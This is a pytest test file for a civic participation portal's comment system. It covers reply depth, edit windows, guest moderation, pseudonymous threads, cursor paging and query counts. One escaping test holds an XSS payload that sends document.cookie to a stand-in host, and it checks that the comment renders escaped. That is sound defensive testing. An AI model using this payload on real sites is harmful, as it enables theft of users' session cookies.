"""Comments: three levels deep, with a stance, editable for a short while, paged by cursor at a fixed query cost."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from flask import render_template_string
from werkzeug.exceptions import Forbidden, NotFound

from participation.errors import ParticipationError
from participation.models import Comment
from participation.services import comments, pseudonyms
from portal.actors import ANONYMOUS
from portal.extensions import db
from portal.timeutil import utcnow
from tests.participation.builders import (
    actor,
    count_queries,
    events,
    fresh,
    make_comment,
    make_consultation,
    make_person,
    make_proposal,
    set_created_at,
)


def _walk(fetch) -> list[int]:
    seen: list[int] = []
    cursor = None
    for _ in range(50):
        page = fetch(cursor)
        seen += [item.comment.id for item in page.items]
        cursor = page.next_cursor
        if cursor is None:
            return seen
    raise AssertionError("the cursor never ended")


def test_a_comment_on_a_proposal_counts_on_it_and_on_the_consultation(world):
    consultation = make_consultation(world)
    proposal = make_proposal(world, consultation)

    comment = make_comment(world, consultation, world.ben, proposal_id=proposal.id, stance="pro")

    assert (comment.depth, comment.stance, comment.state) == (0, "pro", "published")
    assert (fresh(proposal).comment_count, fresh(consultation).comment_count) == (1, 1)
    event = events("participation.comment_created")[0]
    assert event.subject_user_id == world.ben.id
    assert json.loads(event.details) == {
        "consultation": consultation.slug,
        "proposal": proposal.reference,
        "parent": None,
        "depth": 0,
        "state": "published",
    }


def test_replies_go_two_levels_deep_and_no_further(world):
    consultation = make_consultation(world)
    proposal = make_proposal(world, consultation)
    top = make_comment(world, consultation, proposal_id=proposal.id)

    reply = make_comment(world, consultation, world.ben, parent_id=top.id, body="Sehe ich auch so.")
    answer = make_comment(world, consultation, parent_id=reply.id, body="Danke!")
    with pytest.raises(ParticipationError) as too_deep:
        make_comment(world, consultation, world.ben, parent_id=answer.id)

    assert (reply.depth, reply.root_id, reply.proposal_id) == (1, top.id, proposal.id)
    assert (answer.depth, answer.root_id, answer.parent_id) == (2, top.id, reply.id)
    assert too_deep.value.code == "depth_exceeded"
    assert (fresh(top).reply_count, fresh(reply).reply_count, fresh(answer).reply_count) == (1, 1, 0)
    assert (fresh(proposal).comment_count, fresh(consultation).comment_count) == (3, 3)


def test_a_reply_to_a_comment_of_another_consultation_is_not_found(world):
    here = make_consultation(world)
    there = make_consultation(world, title="Anderswo")
    elsewhere = make_comment(world, there)

    with pytest.raises(NotFound):
        make_comment(world, here, parent_id=elsewhere.id)


def test_an_unknown_stance_is_refused(world):
    consultation = make_consultation(world)

    with pytest.raises(ParticipationError) as refused:
        make_comment(world, consultation, stance="vielleicht")

    assert (refused.value.field, refused.value.code) == ("stance", "bad_stance")


def test_its_author_may_edit_a_comment_within_the_window(world):
    consultation = make_consultation(world)
    comment = make_comment(world, consultation, stance="pro")

    edited = comments.edit_comment(actor(world.anna), comment.id, body="Gute Idee, aber teuer.", stance="neutral")

    assert (edited.body, edited.stance) == ("Gute Idee, aber teuer.", "neutral")
    assert edited.edited_at is not None
    assert len(events("participation.comment_edited")) == 1


def test_editing_after_the_window_is_refused(world):
    consultation = make_consultation(world)
    comment = make_comment(world, consultation)
    set_created_at(comment, utcnow() - timedelta(minutes=16))

    with pytest.raises(ParticipationError) as refused:
        comments.edit_comment(actor(world.anna), comment.id, body="Zu spät.")

    assert refused.value.code == "edit_window_over"
    assert str(refused.value.message) == "Kommentare können nur in den ersten 15 Minuten bearbeitet werden."
    assert fresh(comment).body == "Gute Idee."


def test_the_edit_window_follows_the_setting(world, app):
    app.config["PARTICIPATION_EDIT_MINUTES"] = 60
    consultation = make_consultation(world)
    comment = make_comment(world, consultation)
    set_created_at(comment, utcnow() - timedelta(minutes=30))

    assert comments.edit_comment(actor(world.anna), comment.id, body="Noch rechtzeitig.").body == "Noch rechtzeitig."


def test_nobody_else_may_edit_a_comment(world):
    consultation = make_consultation(world)
    comment = make_comment(world, consultation)

    for other in (actor(world.ben), actor(world.manager), ANONYMOUS):
        with pytest.raises(Forbidden):
            comments.edit_comment(other, comment.id, body="Fremd.")


def test_guests_comment_under_their_name_marked_as_guest_and_wait_for_moderation(world):
    consultation = make_consultation(world, audience="guests")

    comment = comments.create_comment(ANONYMOUS, consultation.id, body="Als Anwohner: ja!", guest_name="Gustav")
    with pytest.raises(ParticipationError) as nameless:
        comments.create_comment(ANONYMOUS, consultation.id, body="Ohne Namen")

    assert (comment.state, comment.author_id, comment.guest_name) == ("pending", None, "Gustav")
    assert fresh(consultation).comment_count == 0
    assert nameless.value.field == "guest_name"
    assert events("participation.comment_created")[0].actor_type == "anonymous"


def test_in_a_premoderated_consultation_a_comment_waits_and_only_its_author_sees_it(world):
    consultation = make_consultation(world, premoderation=True)

    comment = make_comment(world, consultation)

    assert comment.state == "pending"
    assert fresh(consultation).comment_count == 0
    assert [i.comment.id for i in comments.list_comments(actor(world.anna), consultation.id).items] == [comment.id]
    assert comments.list_comments(actor(world.ben), consultation.id).items == []


def test_a_thread_shows_pseudonyms_and_replies_and_hides_the_text_of_hidden_comments(world):
    consultation = make_consultation(world)
    top = make_comment(world, consultation, body="Oben")
    hidden = make_comment(world, consultation, world.ben, parent_id=top.id, body="Beleidigung")
    make_comment(world, consultation, parent_id=hidden.id, body="Antwort auf Ausgeblendetes")
    db.session.execute(db.update(Comment).where(Comment.id == hidden.id).values(state="hidden"))
    db.session.commit()

    page = comments.list_comments(ANONYMOUS, consultation.id)

    [item] = page.items
    assert (item.author_name, item.text, item.more_replies) == ("Anna Aktiv", "Oben", False)
    [reply] = item.replies
    assert (reply.author_name, reply.text) == ("Ben Beteiligt", None)
    assert [r.text for r in reply.replies] == ["Antwort auf Ausgeblendetes"]


def test_top_level_comments_are_walked_by_cursor_without_gaps_or_repeats(world):
    consultation = make_consultation(world)
    made = [make_comment(world, consultation, body=f"Kommentar {n}").id for n in range(23)]
    proposal = make_proposal(world, consultation)
    make_comment(world, consultation, proposal_id=proposal.id)  # on the proposal: not in the consultation's list

    seen = _walk(lambda cursor: comments.list_comments(ANONYMOUS, consultation.id, cursor=cursor, limit=5))

    assert seen == made


def test_replies_are_walked_by_cursor_and_a_page_says_when_there_are_more(world):
    consultation = make_consultation(world)
    top = make_comment(world, consultation)
    replies = [make_comment(world, consultation, world.ben, parent_id=top.id, body=f"Antwort {n}").id for n in range(8)]

    [item] = comments.list_comments(ANONYMOUS, consultation.id, replies=3).items
    seen = _walk(lambda cursor: comments.list_replies(ANONYMOUS, top.id, cursor=cursor, limit=3))

    assert [r.comment.id for r in item.replies] == replies[:3]
    assert item.more_replies is True
    assert seen == replies


def test_a_page_of_a_thread_costs_the_same_queries_however_big_the_thread(world):
    small = make_consultation(world, title="Klein")
    big = make_consultation(world, title="Groß")
    small_top = make_comment(world, small)
    make_comment(world, small, parent_id=make_comment(world, small, parent_id=small_top.id).id)
    people = [make_person(f"p{n}@example.org") for n in range(5)]
    for n, person in enumerate(people):
        pseudonyms.choose(actor(person), f"Person {n}")
    for n in range(25):
        top = make_comment(world, big, people[n % 5], body=f"Oben {n}")
        if n < 4:
            for m in range(5):
                reply = make_comment(world, big, people[m], parent_id=top.id, body=f"Antwort {m}")
                make_comment(world, big, people[(m + 1) % 5], parent_id=reply.id, body="Darauf")
    db.session.expire_all()

    with count_queries() as few:
        comments.list_comments(ANONYMOUS, small.id)
    with count_queries() as many:
        page = comments.list_comments(ANONYMOUS, big.id, limit=20)

    assert len(page.items) == 20
    assert [len(i.replies) for i in page.items[:5]] == [3, 3, 3, 3, 0]
    assert all(len(r.replies) == 1 for r in page.items[0].replies)
    # The consultation, then the page with two levels of replies and the authors' pseudonyms in one query (a window
    # function per level): however many comments.
    assert len(many) == len(few) == 2
    db.session.expire_all()
    with count_queries() as replies:
        comments.list_replies(ANONYMOUS, page.items[0].comment.id)
    assert len(replies) == 3  # the comment, the consultation, the page with its replies and pseudonyms


def test_a_script_in_a_comment_is_kept_as_text_and_shown_escaped(world, app):
    consultation = make_consultation(world, audience="guests")
    attack = "<script>document.location='https://böse.example/?c='+document.cookie</script>"

    comment = make_comment(world, consultation, body=attack)
    guest = comments.create_comment(ANONYMOUS, consultation.id, body="Hallo", guest_name="<b>Gast</b>")
    [item] = comments.list_comments(actor(world.anna), consultation.id, limit=1).items
    shown = render_template_string("<p>{{ i.text }}</p><span>{{ name }}</span>", i=item, name=guest.guest_name)

    assert comment.body == attack
    assert "<script>" not in shown and "&lt;script&gt;" in shown
    assert "<b>" not in shown and "&lt;b&gt;Gast&lt;/b&gt;" in shown


def test_a_comment_on_a_pending_proposal_is_refused(world):
    consultation = make_consultation(world, premoderation=True)
    proposal = make_proposal(world, consultation)

    with pytest.raises(ParticipationError) as refused:
        make_comment(world, consultation, world.ben, proposal_id=proposal.id)

    assert refused.value.code == "proposal_not_published"
